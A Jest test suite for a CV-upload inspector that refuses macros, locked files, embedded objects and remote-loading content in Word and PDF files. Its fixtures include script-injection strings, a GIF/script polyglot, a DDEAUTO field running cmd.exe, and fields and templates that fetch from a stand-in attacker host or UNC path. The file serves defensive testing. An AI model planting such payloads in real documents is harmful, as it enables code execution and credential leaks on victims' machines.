import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { makeDoc } from '../../../testing/doc';
import { makeDocx, wordRelationship, wordRelationships } from '../../../testing/docx';
import { makeZip } from '../../../testing/zip';
import { inspectCv } from './inspect-cv';

jest.mock('../../../files/child-program');

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const WRONG = 'CV/Resume harus berupa file PDF, DOC, atau DOCX.';
const MACROS = 'File CV berisi makro. Simpan tanpa makro atau sebagai PDF, lalu unggah kembali.';
const DAMAGED =
  'File CV rusak atau tidak dapat diperiksa. Simpan sebagai PDF, lalu unggah kembali.';
const LOCKED = 'File CV terkunci dengan kata sandi. Hapus kata sandinya, lalu unggah kembali.';
const EMBEDDED = 'File CV berisi objek tertanam. Simpan sebagai PDF, lalu unggah kembali.';
const REMOTE = 'File CV memuat bagian dari internet. Simpan sebagai PDF, lalu unggah kembali.';

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'teluk-mart-cv-'));
});
afterAll(() => rm(folder, { recursive: true }));

async function inspect(content: Buffer | Promise<Buffer>) {
  const file = path.join(folder, 'cv');
  await writeFile(file, await content);
  const finding = await inspectCv(file);
  return finding.ok ? finding.mediaType : finding.violation;
}

/** Makes a Word document whose settings name a template. */
function docxWithTemplate(target: string, rels = 'word/_rels/settings.xml.rels'): Promise<Buffer> {
  const template = wordRelationship('rId1', 'attachedTemplate', target, 'External');
  return makeDocx({ entries: { [rels]: wordRelationships(template) } });
}

describe('what a file is', () => {
  it.each([
    ['a PDF', Buffer.from('%PDF-1.7\nx'), 'application/pdf'],
    ['a PDF after some blanks', Buffer.from('\n\n  %PDF-1.7\nx'), 'application/pdf'],
    ['a PDF after a byte order mark', Buffer.from('\ufeff%PDF-1.7\nx'), 'application/pdf'],
    ['a Word document', makeDocx(), DOCX],
    ['one of Word on the web', makeDocx({ entries: { 'word/document2.xml': '<x/>' } }), DOCX],
    ['an older Word document', makeDoc(), 'application/msword'],
    ['a long directory', makeDoc([...'abcdefghij', 'WordDocument']), 'application/msword'],
  ])('%s is accepted', async (_name, content, type) => {
    expect(await inspect(content)).toBe(type);
  });

  it.each([
    ['a program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(50), Buffer.from('%PDF-1.7')])],
    ['a picture', Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(100)])],
    ['a picture that is a script too', Buffer.from('GIF89a/*\x00*/=1;alert(1)//%PDF-1.7')],
    ['a page', Buffer.from('<!doctype html><script>alert(1)</script>\n%PDF-1.7')],
    ['a page behind a signature', Buffer.from('%PDF-1.7\n<ScRipt>alert(1)</script>')],
    ['a drawing behind a signature', Buffer.from(`%PDF-1.7\n${' '.repeat(900)}<svg onload=a()>`)],
    ['text', Buffer.from('Nama: Siti')],
    ['one byte', Buffer.from('%')],
    ['the beginning of an archive', Buffer.from('PK\x03\x04')],
    ['an archive', makeZip([{ name: 'gambar.png', content: 'x' }])],
    ['an archive that only mentions Word', makeZip([{ name: 'a', content: 'word/document.xml' }])],
    [
      'a document within an archive',
      makeDocx().then((content) => makeZip([{ name: 'cv.docx', content }])),
    ],
    ['an older table', makeDoc(['Workbook'], 'WordDocument')],
    ['a compound file without a directory', makeDoc().subarray(0, 1024)],
    ['the beginning of a compound file', makeDoc().subarray(0, 100)],
  ])('%s is refused', async (_name, content) => {
    expect(await inspect(content)).toBe(WRONG);
  });
});

describe('macros', () => {
  const macroType =
    '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>';
  const mainType =
    '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>';
  it.each([
    ['by the name of the part', makeDocx({ entries: { 'word/vbaProject.bin': 'x' } })],
    ['by the type of the part', makeDocx({ types: macroType })],
    ['by the type of the document', makeDocx({ types: mainType })],
    [
      'by a type in UTF-16',
      makeDocx({
        entries: { '[Content_Types].xml': Buffer.from(`\ufeff${mainType}`, 'utf16le') },
      }),
    ],
    [
      'by a type that is written in another way',
      makeDocx({ types: macroType.replace('vbaProject', 'vb&#97;Project') }),
    ],
    [
      'by a relationship',
      makeDocx({ relationships: wordRelationship('rId7', 'vbaProject', 'x.bin') }),
    ],
    ['of an older document', makeDoc(['WordDocument', 'Macros', 'VBA'])],
    ['of an older document by another name', makeDoc(['WordDocument', '_VBA_PROJECT'])],
  ])('%s are refused', async (_name, content) => {
    expect(await inspect(content)).toBe(MACROS);
  });

  it('are no word in the text', async () => {
    expect(await inspect(makeDoc(['WordDocument'], 'Keahlian: Excel, Macros'))).toBe(
      'application/msword',
    );
    expect(await inspect(makeDocx({ body: '<w:p><w:r><w:t>vbaProject</w:t></w:r></w:p>' }))).toBe(
      DOCX,
    );
  });
});

it('a document behind a password is refused', async () => {
  expect(await inspect(makeDoc(['EncryptionInfo', 'EncryptedPackage']))).toBe(LOCKED);
});

describe('what lies in a document and is not looked into', () => {
  const part = 'word/chunk.rtf';
  it.each([
    ['a piece of another kind', 'aFChunk', part],
    ['an object of another program', 'oleObject', 'word/x.bin'],
    ['a table of another program', 'package', 'word/x.xlsx'],
    ['a control', 'control', 'word/activeX/activeX1.xml'],
    ['a piece whose kind has a blank behind it', 'aFChunk ', part],
  ])('%s is refused', async (_name, kind, target) => {
    const relationships = wordRelationship('rId7', kind, target);
    expect(await inspect(makeDocx({ relationships, entries: { [target]: '<x/>' } }))).toBe(
      EMBEDDED,
    );
  });

  it('is refused by its folder, and in the text of a part', async () => {
    expect(await inspect(makeDocx({ entries: { 'word/Embeddings/a.bin': 'x' } }))).toBe(EMBEDDED);
    const inner =
      '&lt;pkg:package xmlns:pkg="http://schemas.micro<!-- -->soft.com/office/2006/xmlPackage"/>';
    expect(await inspect(makeDocx({ entries: { 'customXml/item1.xml': `<a>${inner}</a>` } }))).toBe(
      EMBEDDED,
    );
  });

  it('is refused in an older document', async () => {
    const streams = ['WordDocument', 'ObjectPool', '_1541577328'];
    expect(await inspect(makeDoc(streams))).toBe(EMBEDDED);
  });
});

describe('fields that load', () => {
  const field = '<w:p><w:fldSimple w:instr="INCLUDETEXT http://jahat.example/a.docx"/></w:p>';
  const story = (name: string) =>
    `<w:${name} xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${field}</w:${name}>`;
  it.each(['document2', 'header1', 'footer3', 'footnotes', 'endnotes', 'comments'])(
    'in word/%s.xml are refused',
    async (name) => {
      const entries = { [`word/${name}.xml`]: story('hdr') };
      expect(await inspect(makeDocx({ entries }))).toBe(REMOTE);
      expect(await inspect(makeDocx({ body: field }))).toBe(REMOTE);
    },
  );

  it('are refused in a part that is called otherwise', async () => {
    const relationships = wordRelationship('rId7', 'header', 'header1.txt');
    const entries = { 'word/header1.txt': story('hdr') };
    expect(await inspect(makeDocx({ relationships, entries }))).toBe(DAMAGED);
  });

  const unc = String.raw`INCLUDEPICTURE "\\\\10.0.0.1\\a.png"`;
  it.each([
    ['a picture of a server', unc],
    ['a text of the web', 'includetext "http://jahat.example/a.doc"'],
    ['a program', String.raw`DDEAUTO c:\\windows\\cmd.exe "/k calc"`],
    ['an address right behind the name', String.raw`INCLUDETEXT\\10.0.0.1\a.doc`],
    ['an address with both strokes', String.raw`INCLUDETEXT "/\10.0.0.1\a.doc"`],
    ['an address that another field makes', 'INCLUDETEXT \u0013QUOTE 92 92'],
  ])('in an older document are refused: %s', async (_name, code) => {
    const text = `Siti \u0013 ${code}\u0014x\u0015`;
    expect(await inspect(makeDoc(['WordDocument'], text))).toBe(REMOTE);
    const narrow = Buffer.concat([makeDoc(), Buffer.from(text, 'latin1')]);
    expect(await inspect(narrow)).toBe(REMOTE);
    // Across two of the pieces in which the file is read.
    const before = Buffer.alloc(64 * 1024 - 10 - makeDoc().length);
    expect(await inspect(Buffer.concat([makeDoc(), before, Buffer.from(text, 'latin1')]))).toBe(
      REMOTE,
    );
  });

  it('in an older document are refused where the address lies far behind the name', async () => {
    const before = Buffer.alloc(61_000 - makeDoc().length);
    const field = Buffer.from(`\u0013INCLUDETEXT${' '.repeat(5000)}http://a\u0015`, 'latin1');
    expect(await inspect(Buffer.concat([makeDoc(), before, field]))).toBe(REMOTE);
  });

  it.each([
    `Siti ${unc}`,
    '\u0013 PAGE \u0014 http://example.com\u0015',
    '\u0013 HYPERLINK "http://example.com"\u0014x\u0015',
    '\u0013 INCLUDEPICTURE "C:\\\\foto.jpg" \u0014 http://example.com\u0015',
  ])('in an older document are no text and no other field: %j', async (text) => {
    expect(await inspect(makeDoc(['WordDocument'], text))).toBe('application/msword');
  });

  it('and an older document without objects keeps its empty place for them', async () => {
    const document = makeDoc(['WordDocument', 'ObjectPool']);
    const entry = document.indexOf(Buffer.from('ObjectPool', 'utf16le'));
    document.writeUInt32LE(0xffffffff, entry + 0x4c);
    expect(await inspect(document)).toBe('application/msword');
  });
});

describe('what Word loads from elsewhere when it opens the document', () => {
  const settings = (rels: string | Buffer) =>
    makeDocx({ entries: { 'word/_rels/settings.xml.rels': rels } });

  it('a template is refused, however the list is called', async () => {
    const target = 'https://jahat.example/t.dotm';
    expect(await inspect(docxWithTemplate(target))).toBe(REMOTE);
    expect(await inspect(docxWithTemplate(target, 'word/_rels/SETTINGS.XML.RELS'))).toBe(REMOTE);
  });

  it('is refused in UTF-16 as well', async () => {
    const rels = wordRelationships(wordRelationship('a', 'oleObject', 'http://jahat.example/'));
    expect(await inspect(settings(Buffer.from(`\ufeff${rels}`, 'utf16le')))).toBe(REMOTE);
  });

  it('is no link, and nothing on the own disk', async () => {
    const link = wordRelationship('rId9', 'hyperlink', 'https://example.com/', 'External');
    expect(await inspect(makeDocx({ relationships: link }))).toBe(DOCX);
    expect(await inspect(docxWithTemplate('file:///C:\\Users\\Siti\\Resume.dotx'))).toBe(DOCX);
  });

  const hidden = wordRelationship('a', 'attachedTemplate', 'https://jahat.example/', 'External');
  it.each([
    ['UTF-16 that does not say so', Buffer.from(wordRelationships(hidden), 'utf16le')],
    ['what Word would not read', `${wordRelationships('')}<Relationship`],
    ['half a megabyte', ' '.repeat(600 * 1024)],
  ])('%s is refused unread', async (_name, rels) => {
    expect(await inspect(settings(rels))).toBe(DAMAGED);
  });

  it('too many lists are refused unread', async () => {
    const lists = Array.from({ length: 60 }, (_, n) => [`word/_rels/${n}.rels`, '<x/>'] as const);
    expect(await inspect(makeDocx({ entries: Object.fromEntries(lists) }))).toBe(DAMAGED);
  });

  it('a list that would take minutes to search is read at once', async () => {
    expect(await inspect(settings('<Relationship'.repeat(39_000)))).toBe(DAMAGED);
  });
});
